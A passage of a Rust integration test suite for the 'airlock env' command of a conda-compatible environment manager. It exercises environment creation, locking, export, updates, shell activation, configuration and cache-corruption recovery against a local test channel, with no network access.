//! `airlock env` end to end: the real binary against a local channel of real conda packages
//! built and indexed by the test, with `conda-forge` mapped onto it through `channel_alias`.
//! Every test has its own HOME and XDG directories; nothing touches the network.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use airlock_env::testchannel::{self, PackageBuild, PackageFile};

/// The shared channel root: `<root>/conda-forge` is the channel, `<root>` the alias.
fn channels_root() -> &'static Path {
    static ROOT: OnceLock<PathBuf> = OnceLock::new();
    ROOT.get_or_init(|| {
        let dir = tempfile::Builder::new()
            .prefix("airlock-env-channels-")
            .tempdir()
            .unwrap()
            .keep();
        testchannel::build_channel(&dir.join("conda-forge"), &testchannel::test_packages())
            .unwrap();
        dir
    })
}

struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Self {
        let dir = tempfile::Builder::new()
            .prefix("airlock-env-test-")
            .tempdir()
            .unwrap();
        for sub in ["home", "data", "cache", "config", "state", "work"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        Self { dir }
    }

    fn path(&self, sub: &str) -> PathBuf {
        self.dir.path().join(sub)
    }

    fn home(&self) -> PathBuf {
        self.path("home")
    }

    fn envs_dir(&self) -> PathBuf {
        self.path("data").join("airlock").join("envs")
    }

    fn pkgs_dir(&self) -> PathBuf {
        self.path("cache").join("airlock").join("pkgs")
    }

    fn prefix(&self, name: &str) -> PathBuf {
        self.envs_dir().join(name)
    }

    fn command(&self) -> Command {
        self.command_of(env!("CARGO_BIN_EXE_airlock"))
    }

    /// `program` with this sandbox's environment (what airlock gets from [`Self::command`]).
    fn command_of(&self, program: &str) -> Command {
        let mut cmd = Command::new(program);
        for (key, _) in std::env::vars_os() {
            let key = key.to_string_lossy().into_owned();
            if key.starts_with("AIRLOCK_")
                || key.starts_with("CONDA")
                || key.starts_with("XDG_")
                || key.starts_with("PIP_")
                || key == "RUST_LOG"
            {
                cmd.env_remove(&key);
            }
        }
        let alias = url::Url::from_directory_path(channels_root()).unwrap();
        cmd.env("HOME", self.home())
            .env("XDG_DATA_HOME", self.path("data"))
            .env("XDG_CACHE_HOME", self.path("cache"))
            .env("XDG_CONFIG_HOME", self.path("config"))
            .env("XDG_STATE_HOME", self.path("state"))
            .env("AIRLOCK_CHANNEL_ALIAS", alias.as_str())
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PYTHONNOUSERSITE", "1")
            .current_dir(self.path("work"));
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.command().args(args).output().unwrap()
    }

    /// Runs and asserts success; returns stdout.
    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "airlock {args:?} failed ({}):\n{}\n{}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    /// Runs and asserts failure; returns stderr.
    fn fails(&self, args: &[&str]) -> String {
        let out = self.run(args);
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            !out.status.success(),
            "airlock {args:?} should have failed:\n{stderr}"
        );
        assert!(!stderr.contains("panicked"), "{stderr}");
        stderr
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let path = self.path("work").join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        path
    }
}

/// The cache directory of `name-version-build` (rattler appends the archive's hash).
fn cache_entry(s: &Sandbox, dist: &str) -> PathBuf {
    std::fs::read_dir(s.pkgs_dir())
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            name.starts_with(&format!("{dist}-"))
                && p.extension().is_none_or(|e| e != "lock")
                && p.is_dir()
        })
        .unwrap_or_else(|| panic!("{dist} is not in the cache"))
}

/// `name-version-build` of every record in `conda-meta`.
fn installed(prefix: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(prefix.join("conda-meta"))
        .unwrap()
        .filter_map(|e| {
            let name = e.unwrap().file_name().to_string_lossy().into_owned();
            name.strip_suffix(".json").map(str::to_owned)
        })
        .collect();
    names.sort();
    names
}

fn read_dir_bytes(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect()
}

fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(|e| {
                    let name = e.unwrap().file_name().to_string_lossy().into_owned();
                    name.contains("airlock-staging").then_some(name)
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn create_by_name_installs_dependencies_and_replaces_prefix() {
    let s = Sandbox::new();
    let out = s.run(&["env", "create", "-n", "demo", "-c", "conda-forge", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("linking"), "plain progress lines: {stderr}");
    let prefix = s.prefix("demo");
    assert_eq!(
        installed(&prefix),
        vec!["greeting-data-2.0-0", "hello-2.0-0"]
    );
    let script = std::fs::read_to_string(prefix.join("bin/hello")).unwrap();
    assert!(
        script.contains(&format!("PREFIX=\"{}\"", prefix.display())),
        "{script}"
    );
    assert!(!script.contains(testchannel::PREFIX_PLACEHOLDER));
    let registry = std::fs::read_to_string(s.home().join(".conda/environments.txt")).unwrap();
    assert!(
        registry.lines().any(|l| Path::new(l) == prefix),
        "{registry}"
    );
    let history = std::fs::read_to_string(prefix.join("conda-meta/history")).unwrap();
    assert!(history.contains("# update specs: ['hello']"), "{history}");
    assert!(history.contains('+'), "{history}");
    assert!(leftovers(&s.envs_dir()).is_empty());
    // The cache is the XDG one, and each package extracted by this install got its cache
    // stamp (later installs check files against it instead of hashing them).
    assert!(cache_entry(&s, "hello-2.0-0").is_dir());
    let mut stamps: Vec<String> = std::fs::read_dir(s.pkgs_dir().join(".airlock-verified"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    stamps.sort();
    assert_eq!(stamps.len(), 2, "{stamps:?}");
    assert!(stamps[0].starts_with("greeting-data-2.0-0-"), "{stamps:?}");
    assert!(stamps[1].starts_with("hello-2.0-0-"), "{stamps:?}");
    // The script runs from the environment.
    let out = s.ok(&["env", "run", "-n", "demo", "--", "hello"]);
    assert_eq!(
        out.trim(),
        format!("Hello again from {} (v2)", prefix.display())
    );
}

#[test]
fn version_pins_pick_matching_dependencies_and_both_archive_formats() {
    let s = Sandbox::new();
    s.ok(&[
        "env",
        "create",
        "-n",
        "old",
        "hello=1.0",
        "foo-tools",
        "libfoo=1.2",
    ]);
    assert_eq!(
        installed(&s.prefix("old")),
        vec![
            "foo-tools-0.3-h1",
            "greeting-data-1.0-0",
            "hello-1.0-0",
            "libfoo-1.2-h0"
        ]
    );
    let config = std::fs::read_to_string(s.prefix("old").join("etc/foo-tools/config.txt")).unwrap();
    assert_eq!(config, format!("prefix = {}\n", s.prefix("old").display()));
}

#[test]
fn run_passes_exit_status_and_arguments_through() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "tools", "foo-tools"]);
    let out = s.run(&["env", "run", "-n", "tools", "--", "foo-tool", "7"]);
    assert_eq!(out.status.code(), Some(7));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        format!("foo-tool in {}", s.prefix("tools").display())
    );
    let out = s.run(&[
        "env",
        "run",
        "-n",
        "tools",
        "--",
        "sh",
        "-c",
        "echo $CONDA_PREFIX; exit 3",
    ]);
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        s.prefix("tools").display().to_string()
    );
}

#[test]
fn prefix_works_instead_of_name() {
    let s = Sandbox::new();
    let prefix = s.path("work").join("myenv");
    let p = prefix.to_str().unwrap();
    s.ok(&["env", "create", "-p", p, "hello"]);
    assert!(prefix.join("bin/hello").is_file());
    let out = s.ok(&["env", "run", "-p", p, "--", "hello"]);
    assert!(out.contains(&prefix.display().to_string()), "{out}");
    let hook = s.ok(&["env", "shell-hook", "-p", p]);
    assert!(hook.contains(&format!("{p}/bin")), "{hook}");
    let list = s.ok(&["env", "list"]);
    assert!(list.contains(p), "{list}");
    s.ok(&["env", "remove", "-y", "-p", p]);
    assert!(!prefix.exists());
    let registry = std::fs::read_to_string(s.home().join(".conda/environments.txt")).unwrap();
    assert!(!registry.contains(p), "{registry}");
}

#[test]
fn list_shows_airlock_and_conda_environments() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "one", "hello"]);
    // An environment conda made elsewhere, known only from environments.txt.
    let foreign = s.path("work").join("conda-made");
    std::fs::create_dir_all(foreign.join("conda-meta")).unwrap();
    std::fs::write(foreign.join("conda-meta/python-3.11.7-h0.json"), "{}").unwrap();
    let registry = s.home().join(".conda/environments.txt");
    let mut text = std::fs::read_to_string(&registry).unwrap();
    text.push_str(&foreign.to_string_lossy());
    text.push('\n');
    std::fs::write(&registry, text).unwrap();

    let table = s.ok(&["env", "list"]);
    assert!(table.contains("one"), "{table}");
    assert!(table.contains("conda-made"), "{table}");
    let json: serde_json::Value = serde_json::from_str(&s.ok(&["env", "list", "--json"])).unwrap();
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), 2, "{json}");
    assert_eq!(rows[0]["name"], "one");
    assert_eq!(rows[0]["packages"], 2);
    assert_eq!(rows[1]["python"], "3.11.7");
}

/// `airlock env remove` on a pseudo-terminal: the answer.
fn remove_on_terminal(s: &Sandbox, name: &str, answer: &str) -> (Option<i32>, String) {
    airlock_test_support::on_terminal(
        s.command_of("script"),
        &[env!("CARGO_BIN_EXE_airlock"), "env", "remove", "-n", name],
        &[("[y/N]", answer)],
    )
}

#[test]
fn remove_deletes_and_unregisters() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "gone", "hello"]);
    // Without a terminal to ask on, only --yes removes.
    let err = s.fails(&["env", "remove", "-n", "gone"]);
    assert!(
        err.starts_with("airlock: error: refusing to remove") && err.contains("pass --yes"),
        "{err}"
    );
    assert!(s.prefix("gone").join("bin/hello").is_file());
    // On a terminal it asks; anything but y/yes keeps it.
    let (code, shown) = remove_on_terminal(&s, "gone", "");
    assert_eq!(code, Some(1), "{shown}");
    assert!(
        shown.contains(&format!(
            "Remove environment gone ({})?",
            s.prefix("gone").display()
        )) && shown.contains("nothing removed"),
        "{shown}"
    );
    assert!(s.prefix("gone").join("bin/hello").is_file());
    let (code, shown) = remove_on_terminal(&s, "gone", "y");
    assert_eq!(code, Some(0), "{shown}");
    assert!(!s.prefix("gone").exists());
    s.ok(&["env", "create", "-n", "gone", "hello"]);
    s.ok(&["env", "remove", "-n", "gone", "--yes"]);
    assert!(!s.prefix("gone").exists());
    let registry = std::fs::read_to_string(s.home().join(".conda/environments.txt")).unwrap();
    assert!(registry.trim().is_empty(), "{registry}");
    let err = s.fails(&["env", "remove", "-n", "gone"]);
    assert!(err.contains("environment `gone` does not exist"), "{err}");
}

/// `env shell` runs $SHELL activated as `env run` is: a non-interactive shell reads its
/// commands from stdin, sees the environment, and its exit status comes back.
#[test]
fn shell_opens_an_activated_shell() {
    use std::io::Write as _;
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "tools", "hello"]);
    let prefix = s.prefix("tools");
    for shell in ["/bin/sh", "bash"] {
        let mut child = s
            .command()
            .args(["env", "shell", "-n", "tools"])
            .env("SHELL", shell)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(b"echo \"prefix=$CONDA_PREFIX\"; command -v hello; exit 7\n")
            .unwrap();
        let out = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(7), "{shell}: {stdout}");
        assert!(
            stdout.contains(&format!("prefix={}\n", prefix.display()))
                && stdout.contains(&format!("{}/bin/hello\n", prefix.display())),
            "{shell}: {stdout}"
        );
    }
    // Without $SHELL: /bin/sh.
    let out = s
        .command()
        .args(["env", "shell", "-n", "tools"])
        .env_remove("SHELL")
        .stdin(std::fs::File::open(s.write("cmds", "echo \"$CONDA_PREFIX\"\n")).unwrap())
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        prefix.display().to_string()
    );
    let err = s.fails(&["env", "shell", "-n", "nope"]);
    assert!(err.contains("environment `nope` does not exist"), "{err}");
}

#[test]
fn export_in_all_formats() {
    let s = Sandbox::new();
    s.ok(&[
        "env",
        "create",
        "-n",
        "exp",
        "-c",
        "conda-forge",
        "hello>=1",
        "libfoo",
    ]);
    let yaml = s.ok(&["env", "export", "-n", "exp"]);
    assert!(
        yaml.starts_with("name: exp\nchannels:\n  - conda-forge\ndependencies:\n"),
        "{yaml}"
    );
    assert!(yaml.contains("  - hello=2.0=0\n"), "{yaml}");
    assert!(yaml.contains("  - libfoo=1.2=h0\n"), "{yaml}");
    assert!(
        yaml.contains(&format!("prefix: {}", s.prefix("exp").display())),
        "{yaml}"
    );
    let no_builds = s.ok(&["env", "export", "-n", "exp", "--no-builds"]);
    assert!(no_builds.contains("  - greeting-data=2.0\n"), "{no_builds}");
    assert!(no_builds.contains("  - hello=2.0\n"), "{no_builds}");
    let history = s.ok(&["env", "export", "-n", "exp", "--from-history"]);
    assert!(
        history.contains("dependencies:\n  - hello>=1\n  - libfoo\n"),
        "{history}"
    );
    assert!(!history.contains("greeting-data"), "{history}");
    let explicit = s.ok(&["env", "export", "-n", "exp", "--format", "explicit"]);
    assert!(explicit.contains("@EXPLICIT\n"), "{explicit}");
    assert!(
        explicit.contains("conda-forge/noarch/hello-2.0-0.conda#sha256:"),
        "{explicit}"
    );
    assert!(
        explicit.contains("conda-forge/linux-64/libfoo-1.2-h0.tar.bz2#"),
        "{explicit}"
    );
    let lock = s.ok(&["env", "export", "-n", "exp", "--format", "lock"]);
    assert!(lock.starts_with("version: 7"), "{lock}");
    assert!(lock.contains("hello-2.0-0.conda"), "{lock}");

    // The exported yml recreates the environment.
    let file = s.write(
        "exported.yml",
        &no_builds.replace("name: exp", "name: again"),
    );
    s.ok(&["env", "create", "-f", file.to_str().unwrap()]);
    assert_eq!(installed(&s.prefix("again")), installed(&s.prefix("exp")));
}

#[test]
fn lock_then_install_without_solving_is_byte_identical() {
    let s = Sandbox::new();
    // Two platforms, with a CUDA version for a GPU node assumed on this CPU-only machine.
    let portable = s.write(
        "portable.yml",
        "name: portable\nchannels:\n  - conda-forge\ndependencies:\n  - hello=1.0\n",
    );
    let multi = s.path("work").join("multi.lock");
    s.ok(&[
        "env",
        "lock",
        "-f",
        portable.to_str().unwrap(),
        "--platform",
        "linux-64",
        "--platform",
        "osx-arm64",
        "--cuda",
        "12.4",
        "-o",
        multi.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&multi).unwrap();
    assert!(text.starts_with("version: 7"), "{text}");
    assert!(text.contains("linux-64"), "{text}");
    assert!(text.contains("osx-arm64"), "{text}");
    assert!(
        text.contains("__cuda=12.4"),
        "virtual packages recorded: {text}"
    );
    assert!(text.contains("__glibc="), "{text}");
    assert!(text.contains("__osx="), "{text}");

    let yml = s.write(
        "environment.yml",
        "name: locked\nchannels:\n  - conda-forge\ndependencies:\n  - hello=1.0\n  - foo-tools\n",
    );
    let lock = s.path("work").join("pixi.lock");
    s.ok(&["env", "lock", "-f", yml.to_str().unwrap()]);
    assert!(
        std::fs::read_to_string(&lock)
            .unwrap()
            .contains("foo-tools-0.3-h1.conda")
    );
    let l = lock.to_str().unwrap();
    s.ok(&["env", "install", "--lock", l, "-n", "fromlock"]);
    let first = read_dir_bytes(&s.prefix("fromlock").join("conda-meta"));
    assert!(first.contains_key("hello-1.0-0.json"), "{:?}", first.keys());
    assert!(
        first.contains_key("foo-tools-0.3-h1.json"),
        "{:?}",
        first.keys()
    );
    s.ok(&["env", "remove", "--yes", "-n", "fromlock"]);
    s.ok(&["env", "install", "--lock", l, "-n", "fromlock"]);
    let second = read_dir_bytes(&s.prefix("fromlock").join("conda-meta"));
    assert_eq!(
        first, second,
        "conda-meta differs between two installs of the same lock"
    );

    // Installing a platform the lock does not have says so.
    let err = s.fails(&[
        "env",
        "install",
        "--lock",
        l,
        "-n",
        "x",
        "--platform",
        "win-64",
    ]);
    assert!(err.contains("no packages for platform win-64"), "{err}");
}

#[test]
fn cuda_is_a_virtual_package() {
    let s = Sandbox::new();
    let out = s
        .command()
        .args(["env", "create", "-n", "gpu", "gpu-kernels"])
        .env("CONDA_OVERRIDE_CUDA", "")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("__cuda"), "{err}");
    s.ok(&[
        "env",
        "create",
        "-n",
        "gpu",
        "--cuda",
        "12.2",
        "gpu-kernels",
    ]);
    assert_eq!(installed(&s.prefix("gpu")), vec!["gpu-kernels-1.0-0"]);
}

#[test]
fn update_changes_versions_and_keeps_history() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "up", "hello=1.0"]);
    assert!(installed(&s.prefix("up")).contains(&"hello-1.0-0".to_owned()));
    s.ok(&["env", "update", "-n", "up", "hello=2.0", "libfoo"]);
    assert_eq!(
        installed(&s.prefix("up")),
        vec!["greeting-data-2.0-0", "hello-2.0-0", "libfoo-1.2-h0"]
    );
    let history = s.ok(&["env", "export", "-n", "up", "--from-history"]);
    assert!(history.contains("  - hello=2.0\n  - libfoo\n"), "{history}");
    let script = std::fs::read_to_string(s.prefix("up").join("bin/hello")).unwrap();
    assert!(script.contains("(v2)"), "{script}");
}

/// Every file under `dir` (recursively) with its bytes, or its target for a symbolic link.
fn tree_bytes(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, Vec<u8>>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                walk(root, &path, out);
            } else if meta.is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                out.insert(rel, target.to_string_lossy().into_owned().into_bytes());
            } else {
                out.insert(rel, std::fs::read(&path).unwrap());
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

#[test]
fn failed_update_leaves_the_environment_unchanged() {
    let s = Sandbox::new();
    // A channel whose index lists hello 2.0 but whose archive is gone: the update solves, then
    // fails while fetching, after the transaction has started (hello 1.0 is to be unlinked).
    let broken = s.path("work").join("broken-channel");
    copy_dir(&channels_root().join("conda-forge"), &broken);
    std::fs::remove_file(broken.join("noarch/hello-2.0-0.conda")).unwrap();
    let url = url::Url::from_directory_path(&broken).unwrap();
    s.ok(&["env", "create", "-n", "up", "-c", url.as_str(), "hello=1.0"]);
    let prefix = s.prefix("up");
    let before = tree_bytes(&prefix);
    assert!(before.contains_key("bin/hello"), "{:?}", before.keys());

    let err = s.fails(&["env", "update", "-n", "up", "hello=2.0"]);
    assert!(err.contains("hello-2.0-0"), "{err}");
    let after = tree_bytes(&prefix);
    assert!(
        after == before,
        "the failed update changed the environment: {:?}",
        after.keys().collect::<Vec<_>>()
    );
    assert!(
        leftovers(&s.envs_dir()).is_empty(),
        "{:?}",
        leftovers(&s.envs_dir())
    );

    // An unsatisfiable update fails before anything is installed.
    let err = s.fails(&["env", "update", "-n", "up", "hello=9"]);
    assert!(err.contains("hello"), "{err}");
    assert!(tree_bytes(&prefix) == before);

    // A good update replaces the environment and the old one is gone.
    s.ok(&["env", "update", "-n", "up", "libfoo"]);
    assert!(installed(&prefix).contains(&"libfoo-1.2-h0".to_owned()));
    assert!(installed(&prefix).contains(&"hello-1.0-0".to_owned()));
    assert!(leftovers(&s.envs_dir()).is_empty());
}

#[test]
fn shell_hook_activates_in_bash_and_prints_fish() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "sh", "hello"]);
    let hook = s.ok(&["env", "shell-hook", "-n", "sh", "--shell", "bash"]);
    let prefix = s.prefix("sh");
    let out = Command::new("bash")
        .args([
            "-c",
            &format!("{hook}\ncommand -v hello; echo $CONDA_PREFIX; hello"),
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines[0], prefix.join("bin/hello").display().to_string());
    assert_eq!(lines[1], prefix.display().to_string());
    assert!(lines[2].starts_with("Hello again from"), "{stdout}");

    let fish = s.ok(&["env", "shell-hook", "-n", "sh", "--shell", "fish"]);
    assert!(fish.contains("set -gx"), "{fish}");
    assert!(
        fish.contains(&format!("{}/bin", prefix.display())),
        "{fish}"
    );
    if which("fish") {
        let out = Command::new("fish")
            .args(["-c", &format!("{fish}\ncommand -v hello")])
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            prefix.join("bin/hello").display().to_string()
        );
    }
    let zsh = s.ok(&["env", "shell-hook", "-n", "sh", "--shell", "zsh"]);
    assert!(zsh.contains("export PATH="), "{zsh}");
    let err = s.fails(&["env", "shell-hook", "-n", "sh", "--shell", "tcsh"]);
    assert!(err.contains("unsupported shell"), "{err}");
}

fn which(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|p| std::env::split_paths(&p).any(|d| d.join(program).is_file()))
}

#[test]
fn environment_yml_with_variables_and_name() {
    let s = Sandbox::new();
    let yml = s.write(
        "environment.yml",
        "name: fromfile\nchannels:\n  - conda-forge\ndependencies:\n  - conda-forge::hello=1.0\nvariables:\n  MY_SETTING: forty-two\n",
    );
    s.ok(&["env", "create", "-f", yml.to_str().unwrap()]);
    assert!(installed(&s.prefix("fromfile")).contains(&"hello-1.0-0".to_owned()));
    let out = s.ok(&[
        "env",
        "run",
        "-n",
        "fromfile",
        "--",
        "sh",
        "-c",
        "echo $MY_SETTING",
    ]);
    assert_eq!(out.trim(), "forty-two");
    // -n overrides the file's name.
    s.ok(&[
        "env",
        "create",
        "-f",
        yml.to_str().unwrap(),
        "-n",
        "renamed",
    ]);
    assert!(s.prefix("renamed").is_dir());
}

#[test]
fn config_toml_sets_channels_alias_and_envs_dir() {
    let s = Sandbox::new();
    let alias = url::Url::from_directory_path(channels_root()).unwrap();
    let envs = s.path("work").join("custom-envs");
    std::fs::create_dir_all(s.path("config/airlock")).unwrap();
    std::fs::write(
        s.path("config/airlock/config.toml"),
        format!(
            "channels = [\"conda-forge\"]\nchannel_alias = \"{}\"\nenvs_dir = \"{}\"\n",
            alias.as_str().trim_end_matches('/'),
            envs.display()
        ),
    )
    .unwrap();
    s.command()
        .args(["env", "create", "-n", "cfg", "hello"])
        .env_remove("AIRLOCK_CHANNEL_ALIAS")
        .status()
        .unwrap()
        .success()
        .then_some(())
        .unwrap();
    assert!(envs.join("cfg/bin/hello").is_file());

    // A broken config names file and line.
    std::fs::write(
        s.path("config/airlock/config.toml"),
        "channels = [\"a\"]\nnot_a_setting = 1\n",
    )
    .unwrap();
    let err = s.fails(&["env", "list"]);
    assert!(err.contains("config.toml:2"), "{err}");
}

#[test]
fn condarc_channels_and_envs_dirs_are_read() {
    let s = Sandbox::new();
    let alias = url::Url::from_directory_path(channels_root()).unwrap();
    let conda_envs = s.path("work").join("conda-envs");
    std::fs::write(
        s.home().join(".condarc"),
        format!(
            "channels:\n  - conda-forge\nchannel_alias: {}\nenvs_dirs:\n  - {}\n",
            alias.as_str(),
            conda_envs.display()
        ),
    )
    .unwrap();
    let out = s
        .command()
        .args(["env", "create", "-n", "rc", "hello"])
        .env_remove("AIRLOCK_CHANNEL_ALIAS")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // An environment in conda's envs_dirs is found by name.
    std::fs::create_dir_all(conda_envs.join("legacy/conda-meta")).unwrap();
    let out = s.ok(&[
        "env",
        "run",
        "-n",
        "legacy",
        "--",
        "sh",
        "-c",
        "echo $CONDA_PREFIX",
    ]);
    assert_eq!(out.trim(), conda_envs.join("legacy").display().to_string());
}

#[test]
fn stale_staging_directories_are_cleaned_and_failures_leave_nothing() {
    let s = Sandbox::new();
    // A channel whose index lists an archive that is gone: the fetch fails mid-install.
    let broken = s.path("work").join("broken-channel");
    copy_dir(&channels_root().join("conda-forge"), &broken);
    std::fs::remove_file(broken.join("noarch/hello-2.0-0.conda")).unwrap();
    let url = url::Url::from_directory_path(&broken).unwrap();
    let err = s.fails(&["env", "create", "-n", "broken", "-c", url.as_str(), "hello"]);
    assert!(err.contains("broken"), "{err}");
    assert!(!s.prefix("broken").exists(), "half environment left behind");
    assert!(
        leftovers(&s.envs_dir()).is_empty(),
        "{:?}",
        leftovers(&s.envs_dir())
    );

    let stale = s.envs_dir().join(".killed.airlock-staging-999999999");
    std::fs::create_dir_all(stale.join("conda-meta")).unwrap();
    s.ok(&["env", "create", "-n", "fresh", "hello"]);
    assert!(!stale.exists(), "stale staging directory was not cleaned");
    let registry = std::fs::read_to_string(s.home().join(".conda/environments.txt")).unwrap();
    assert!(!registry.contains("broken"), "{registry}");
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

#[test]
fn corrupt_cached_package_is_fetched_again() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "first", "hello"]);
    let rel = "share/greeting-data/greeting.txt";
    let cached = cache_entry(&s, "greeting-data-2.0-0").join(rel);
    let read = |env: &str| std::fs::read_to_string(s.prefix(env).join(rel)).unwrap();
    // A second install from an intact cache links the same inode (the stamp matched).
    s.ok(&["env", "create", "-n", "intact", "hello"]);
    assert_eq!(inode(&s.prefix("intact").join(rel)), inode(&cached));

    // Replaced: break the hard link to the first environment, then corrupt the cache's copy.
    std::fs::remove_file(&cached).unwrap();
    std::fs::write(&cached, "garbage, same length!").unwrap();
    let out = s.run(&["env", "create", "-n", "second", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("is corrupt"), "{stderr}");
    assert_eq!(read("second"), "Hello again\n");

    // Truncated in place (the inode the environments share).
    let cached = cache_entry(&s, "greeting-data-2.0-0").join(rel);
    std::fs::OpenOptions::new()
        .write(true)
        .open(&cached)
        .unwrap()
        .set_len(3)
        .unwrap();
    let out = s.run(&["env", "create", "-n", "third", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("is corrupt"), "{stderr}");
    assert_eq!(read("third"), "Hello again\n");

    // Rewritten in place with the same size and the old modification time: the stamp (size,
    // mtime, inode) cannot see it; AIRLOCK_VERIFY=full hashes every file and does.
    let cached = cache_entry(&s, "greeting-data-2.0-0").join(rel);
    let mtime = std::fs::metadata(&cached).unwrap().modified().unwrap();
    let file = std::fs::OpenOptions::new()
        .write(true)
        .open(&cached)
        .unwrap();
    std::io::Write::write_all(&mut &file, b"Hello AGAIN\n").unwrap();
    file.set_modified(mtime).unwrap();
    drop(file);
    let out = s
        .command()
        .args(["env", "create", "-n", "fourth", "hello"])
        .env("AIRLOCK_VERIFY", "full")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(read("fourth"), "Hello again\n");
}

/// Turn the sandbox's package cache (filled by the commands so far) into a shared cache layer
/// at `name`, as an admin's would be, and configure it as `pkgs_layers`.
fn cache_as_layer(s: &Sandbox, name: &str) -> PathBuf {
    let shared = s.path(name);
    std::fs::rename(s.pkgs_dir(), &shared).unwrap();
    std::fs::create_dir_all(s.path("config/airlock")).unwrap();
    std::fs::write(
        s.path("config/airlock/config.toml"),
        format!("pkgs_layers = [\"{}\"]\n", shared.display()),
    )
    .unwrap();
    shared
}

fn inode(path: &Path) -> u64 {
    std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(path).unwrap())
}

#[test]
fn shared_cache_layer_is_linked_from_and_a_corrupt_package_there_is_fetched_into_the_users() {
    let s = Sandbox::new();
    s.ok(&["env", "create", "-n", "seed", "hello"]);
    // The admin's shared cache: a cache filled by someone else, configured as a layer.
    let shared = cache_as_layer(&s, "shared-pkgs");
    let rel = "share/greeting-data/greeting.txt";
    let shared_file = std::fs::read_dir(&shared)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            p.is_dir() && name.starts_with("greeting-data-2.0-0-")
        })
        .unwrap()
        .join(rel);

    s.ok(&["env", "create", "-n", "from-shared", "hello"]);
    assert_eq!(
        inode(&s.prefix("from-shared").join(rel)),
        inode(&shared_file),
        "not linked from the shared layer"
    );

    // Corrupt in the shared layer: skipped there (not touched) and fetched into the user's.
    std::fs::remove_file(&shared_file).unwrap();
    std::fs::write(&shared_file, "garbage").unwrap();
    let out = s.run(&["env", "create", "-n", "again", "hello"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
